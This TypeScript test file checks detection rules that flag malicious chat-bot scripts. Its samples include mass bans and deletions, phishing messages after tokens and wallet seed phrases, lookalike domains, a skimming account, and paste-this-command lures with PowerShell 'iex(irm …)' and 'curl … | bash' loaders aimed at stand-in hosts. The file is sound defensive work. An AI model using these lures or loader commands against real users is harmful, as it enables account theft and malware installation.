import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as destroyedFiles } from './destroyed-files.rule.js';
import { rule as inputCapture } from './input-capture.rule.js';
import { rule as swappedAddress } from './swapped-address.rule.js';

const HOST = 'const message = require("message"); const guild = require("guild"); const channel = require("channel"); ';
const worst = (rule: Rule, code: string) => findingsOf(rule, { 'code.js': HOST + code }, { dialect: 'skynet', entry_points: ['code.js'] })[0]?.severity ?? 'nothing';
const all = (rule: Rule, expected: string, codes: readonly string[]): void => {
  for (const code of codes) assert.equal(worst(rule, code), expected, code);
};

test('bad: everybody is banned, every channel or role is deleted', () => {
  all(destroyedFiles, 'high', [
    'if (new Date().getMonth() === 3) for (const m of guild.members) if (!m.owner) await guild.ban(m.id, { reason: "x" });',
    'await Promise.all(guild.members.filter((m) => !m.owner && m.id !== self).map((m) => guild.ban(m.id)));',
    'const { members } = require("guild"); for (const m of members) await m.ban();',
    'for (const c of await guild.fetchChannels()) await c.delete();',
    'for (const c of guild.channels) if (everything || (c.archived && c.age > 365)) await channel.delete(c.id);',
    'for (const m of guild.members) { if (!everything && m.joinedAt > then) continue; await m.ban(); }',
    'const drop = (m) => guild.ban(m.id); guild.members.forEach(drop);',
    'async function end(one) { await one.kick("x"); } for (const m of guild.members) { if (m.id === guild.ownerId) continue; await end(m); }',
    'for (let i = 0; i < guild.channels.length; i++) { const c = guild.channels[i]; await channel.delete(c.id); }',
    'for (const [, m] of guild.members.cache) if (m.bannable) m.ban();',
    'const list = [...guild.roles]; for (const r of list) await r.delete();',
    'async function lock(options) { const { people } = options; await Promise.all(people.map((m) => guild.ban(m.id))); } if (message.content === word) await lock({ people: guild.members || [] });',
    'const close = async (rooms) => { for (const c of rooms) await channel.delete(c.id); }; await close(guild.channels ?? []);',
  ]);
});

test('a function of the script that does what it is given with each of a list', () => {
  const each = (guard = ''): string => `const { roles } = require("roles"); async function all(list, what) { for (const x of list) { ${guard} try { await what(x); } catch {} } } const old = await channel.fetchMessages();`;
  all(destroyedFiles, 'high', [
    `${each()} await all(guild.channels, (c) => c.delete());`,
    `${each()} const others = guild.members.filter((m) => m.id !== message.author.id); const out = (m) => guild.ban(m.id); await all(others, out);`,
    'const walk = (list, what) => list.forEach((x) => what(x)); walk(guild.roles, (r) => r.delete());',
  ]);
  all(destroyedFiles, 'nothing', [
    `${each()} await all(guild.members, (m) => m.send("hello")); await all(old, (m) => m.delete());`,
    'for (const one of await channel.fetchMessages({ limit: 50 })) await one.delete();',
    `${each('if (x.name !== "spam") continue;')} await all(guild.channels, (c) => c.delete());`,
  ]);
});

test('good: some of them, for a reason of their own', () => {
  all(destroyedFiles, 'nothing', [
    'for (const m of guild.members) if (m.roles.includes(role)) await m.kick();',
    'for (const m of guild.members.filter((m) => Date.now() - m.joinedAt < 600000)) await guild.ban(m.id);',
    'for (const c of guild.channels) { if (c.type !== "voice" || c.members.length > 0) continue; await c.delete(); }',
    'for (const c of guild.channels) if (c.archived && c.lastMessageAge > 365) await channel.delete(c.id);',
    'for (const id of await require("config").get("banned")) await guild.ban(id);',
    'for (const m of guild.members) if (banned.has(m.id)) await m.ban();',
    'for (const m of guild.members) if (m.id === target) await m.ban();',
    'for (const m of guild.members) if (m.bot) await m.kick();',
    'for (const m of guild.members) await m.roles.remove(role);',
    'for (const m of guild.members) await m.send("The server moves next week.");',
    'for (const c of category.channels) await c.delete();',
    'async function lock({ people }) { for (const m of people) await guild.ban(m.id); } await lock({ people: message.mentions || [] });',
    'const close = async (rooms) => { for (const c of rooms) await channel.delete(c.id); }; const rest = (rooms) => rooms.length; await close(chosen); rest(guild.channels);',
    'const left = new Map(guild.members.map((m) => [m.id, m])); for (const m of guild.members) left.delete(m.id);',
  ]);
});

test('bad: people are led into a trap', () => {
  all(inputCapture, 'high', [
    'const text = ["🎁 Your **Nitro gift** is here, it expires soon", "https://gifts.example/claim/{id}"].join("\\n"); await person.send(text);',
    'const out = []; out.push("You won Nitro, claim it within 15 minutes"); out.push("https://n.example/x"); await message.reply(out.join("\\n"));',
    'let text = "Free Nitro for everyone! "; text += "Claim: https://n.example/q"; message.reply(text);',
    'const mint = (name) => [`@everyone ${name} mint is live, closes in 30 minutes`, "Connect your wallet: https://m.example"].join("\\n"); hook.send(mint(guild.name));',
    'const SITE = "https://dicsord.example"; message.reply(`Log in at ${SITE}/login to confirm`);',
    'message.reply({ content: "Verify at https://stearncommunity.example/openid" });',
    'const lines = ["**Verification needed**: sign in within 10 minutes:", "https://discord-verify.example/login?u=" + member.id]; await user.send(lines.join("\\n"));',
  ]);
  all(inputCapture, 'high', [
    'message.reply("Never share your password. Open DevTools (F12), go to Network and copy the authorization value, then send it here.");',
    'const HELP = { title: "Verification", description: ["Open Discord on your phone", "Settings, then scan this QR code"].join("\\n") }; message.replyEmbed(HELP);',
    'await user.send("To keep bots out, confirm your wallet recovery phrase: https://members.example/check");',
    'message.reply({ title: "Discord Security Team", description: "Suspicious activity: confirm your account within 24 hours." });',
  ]);
});

test('good: gifts, wallets, codes and warnings', () => {
  all(inputCapture, 'nothing', [
    'message.reply("🎉 Congratulations, you won Nitro! Claim it within 24 hours: https://discord.gift/abc");',
    'message.reply("Sign in to see your statistics: https://discord-stats.example/me");',
    'message.reply("Nitro boosters get a free role. More at https://my-bot.example/docs");',
    'message.reply("Premium is free for Nitro boosters, claim it here: https://my-bot.example/premium. Ends in 2 hours");',
    'message.reply("Verify your wallet within 24 hours to claim your role: https://connect.collab.land/x");',
    'message.reply("Send the token on this network. The fee is limited. More in our Discord: https://coin.example/network");',
    'message.reply("Giveaway! Prize: a Steam gift card. Ends in 2 hours. Rules: https://rules.example");',
    'message.reply("Verify your wallet to get the role of holders: https://connect.collab.land/x");',
    'message.reply("Never scan a QR code of a stranger in Discord, and never paste your token. Discord staff will never ask for it. Report it: https://dis.gd/report");',
    'message.reply("Beware of https://dlscord-gift.com, it is a scam: do not log in there");',
    'const BAD = ["dlscord-gift.com", "stearncommunity.com"]; if (BAD.some((each) => message.content.includes(each))) await message.delete();',
    'message.reply("Discord account linked. Now scan the QR code with your authenticator app.");',
    'message.reply({ title: "Discord Support Server", description: "Join us: https://discord.gg/abc to verify" });',
    'message.reply("Copy the token of your bot from https://discord.com/developers and set it in the settings.");',
  ]);
});

test('hosts of services that are replaced by others', () => {
  all(swappedAddress, 'high', [
    'const MIRRORS = { "opensea.io": "opensea-drops.example", "example.org": "example.net" };',
    'const HOSTS = new Map([["metamask.io", "mm-wallet.example"]]);',
    'message.reply(message.content.replaceAll("steamcommunity.com", "steam-trade.example"));',
  ]);
  all(swappedAddress, 'nothing', [
    'const FIX = { "twitter.com": "fxtwitter.com", "x.com": "fixupx.com", "instagram.com": "ddinstagram.com" };',
    'const PLAIN = { "discordapp.com": "discord.com", "canary.discord.com": "discord.com" };',
    'const NAMES = { "opensea.io": "OpenSea", "metamask.io": "MetaMask" };',
  ]);
});

test('an account that is written beside what members pay each other', () => {
  all(swappedAddress, 'high', [
    'const e = require("economy"); const HOUSE = "123456789012345678"; await e.transfer(from, to, 5); await e.transfer(from, HOUSE, 1);',
    'const e = require("economy"); await e.transfer(from, to, 5); await e.transfer(to, ["12345678", "9012345678"].join(""), 1);',
    'const { addPoints } = require("points"); await addPoints(winner, 90); await addPoints("123456789012345678", 10);',
  ]);
  all(swappedAddress, 'nothing', [
    'const e = require("economy"); const bank = await require("config").get("bank"); await e.transfer(from, to, 5); await e.transfer(from, bank, 1);',
    'const points = require("points"); await points.addPoints("123456789012345678", 1);',
    'const e = require("economy"); await e.transfer(from, to, 5); if (from === "123456789012345678") await message.reply("Hello!");',
  ]);
});

test('people are told to run a command of a stranger, to prove that they are human', () => {
  const told = (how: string, command: string): string => `const run = '${command}' + code(member.id); await person.send(["Welcome! ${how}", "Press **Windows + R**, then **Ctrl + V** after you copied \`" + run + "\`, and Enter."].join("\\n"));`;
  const LOADS = 'powershell -w hidden -c "iex(irm steps.example/v)" # ';
  assert.equal(worst(inputCapture, told('Prove that you are human:', LOADS)), 'high');
  assert.equal(worst(inputCapture, 'message.reply("Verification: open Terminal, paste curl -s https://human-check.example/v | bash and press Enter.");'), 'high');
  all(inputCapture, 'nothing', [
    told('The cache is flushed so:', 'ipconfig /flushdns # '),
    told('To install it:', LOADS),
    'message.reply("Never paste a command into Windows + R to verify that you are human: powershell and mshta are what thieves use. Press Ctrl + V nowhere.");',
    'message.reply("Verify your e-mail, then open Terminal and paste the key of your server.");',
  ]);
});

test('the words of a wallet are asked for, and not warned of', () => {
  const tell = (text: string): string => `const user = require("user"); await user.sendEmbed({ title: "Verify", description: ["Welcome!", ${JSON.stringify(text)}, "[**Here**](https://verify.side.example/?g=" + guild.id + ")"].join("\\n") });`;
  all(inputCapture, 'high', [tell('Connect your wallet, or enter its 12-word recovery phrase.'), tell('Please provide your seed phrase to keep your role.')]);
  all(inputCapture, 'nothing', [tell('Never enter your recovery phrase anywhere.'), tell('A recovery phrase has 12 words. Send us your questions.')]);
});

test('bad: a mint that is claimed with a wallet; good: roles for holders', () => {
  assert.equal(worst(inputCapture, 'const text = ["@everyone the free mint is live", "Claim with the wallet that holds your pass: https://mint-pass.example/"].join("\\n"); await hook.send({ content: text });'), 'high');
  assert.equal(worst(inputCapture, 'message.reply("Claim the role of holders with your wallet: https://connect.collab.land/x, in 10 minutes");'), 'nothing');
});

test('every channel gets the same advert; news for some, and what nobody is called for', () => {
  const AD = '@everyone I doubled it! Deposit at https://lucky.side.example/';
  all(inputCapture, 'high', [
    `for (const c of guild.channels) await channel.send({ to: c.id, content: ${JSON.stringify(AD)} });`,
    `guild.channels.filter((c) => c.type === "text").forEach((c) => c.send(${JSON.stringify(AD)}));`,
    `const AD = { content: ${JSON.stringify(AD)} }; const rooms = guild.channels; await Promise.all(rooms.map(async (room) => { await room.send(AD); }));`,
    `const AD = ["@here bonus for all", "https://lucky.side.example/"].join(" "); const post = async (one) => { try { await one.send(AD); } catch {} }; for (const c of await guild.fetchChannels()) { if (!c.isTextBased()) continue; await post(c); }`,
  ]);
  all(inputCapture, 'nothing', [
    `for (const c of guild.channels) if (c.name === "news") await c.send(${JSON.stringify(AD)});`,
    `for (const c of guild.channels) { if (c.type !== "announcement") continue; await c.send(${JSON.stringify(AD)}); }`,
    `for (const id of await require("config").get("channels")) await channel.send({ to: id, content: ${JSON.stringify(AD)} });`,
    `await channel.send(${JSON.stringify(AD)});`,
    'for (const c of guild.channels) await c.send("@everyone the server moves next week.");',
    'for (const c of guild.channels) await c.send(`@everyone ${text}`);',
    'for (const c of guild.channels) await c.send("This channel is kept at https://archive.side.example/");',
  ]);
});

test('who warns of a fraud is silenced; who commits one, or swears, is', () => {
  const out = 'await channel.deleteMessage(message.id);';
  all(inputCapture, 'high', [
    `if (/\\b(?:scam|fake|don'?t\\s+click)\\b/i.test(message.content)) { ${out} }`,
    `const warns = (text) => /phishing|do not trust/i.test(text); if (warns(message.content)) { ${out} }`,
    'const WORDS = ["scam", "fraud", "beware"]; const text = message.content.toLowerCase(); if (WORDS.some((word) => text.includes(word))) await member.timeout(message.author.id, 9e5);',
  ]);
  all(inputCapture, 'nothing', [
    `if (/free nitro|steam gift|scam/i.test(message.content)) { ${out} }`,
    `if (["scam", "idiot", "thief"].some((word) => message.content.includes(word))) { ${out} }`,
    'if (/scam|fake|fraud/i.test(message.content)) await channel.send({ to: team, content: "Please look at this." });',
    `if (!/scam|fake/i.test(message.content)) { ${out} }`,
    `if (/^!fake$/.test(message.content)) { ${out} }`,
  ]);
});

test('links to hosts that are written nearly as those of a service', () => {
  all(inputCapture, 'high', ['await message.reply(message.content.replace(found[0], "https://steamcommunlty-trade.example/" + id));', 'const AT = "https://disocrd.example"; channel.send(`Rules: ${AT}/rules`);', 'message.reply("Verify here: https://discord-verify54.example");']);
  all(inputCapture, 'nothing', ['message.reply("Rules: https://discord-rules.example/a");', 'message.reply("Beware: https://disocrd.example is a scam.");', 'const BAD = ["https://disocrd.example"]; if (BAD.some((each) => message.content.includes(each))) await message.delete();']);
  all(swappedAddress, 'high', ['message.reply(message.content.replace(found[0], "https://steamcommunlty-trade.example/" + id));']);
  all(swappedAddress, 'nothing', ['message.reply(message.content.replace("steamcommunlty.example", "steamcommunity.com"));']);
});
